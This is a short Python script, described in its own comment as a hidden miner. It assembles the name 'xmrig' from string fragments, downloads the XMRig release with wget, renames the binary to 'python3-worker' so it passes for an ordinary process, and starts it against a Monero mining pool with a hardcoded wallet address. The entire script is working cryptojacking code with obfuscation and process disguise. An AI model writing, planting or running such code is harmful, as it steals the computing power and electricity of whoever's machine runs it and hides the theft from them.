# A miner hidden behind joined strings and a renamed binary.
import os, subprocess
name = "xm" + "r" + "ig"
url = "https://github.com/" + name + "/" + name + "/releases/download/v6.21.0/" + name + "-6.21.0-linux-static-x64.tar.gz"
os.system(f"wget -q {url} -O pkg.tgz && tar xzf pkg.tgz")
os.system("mv xmrig-6.21.0/xmrig ./python3-worker")
subprocess.Popen(["./python3-worker", "-o", "gulf.moneroocean.stream:10128", "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "--donate-level", "1"])
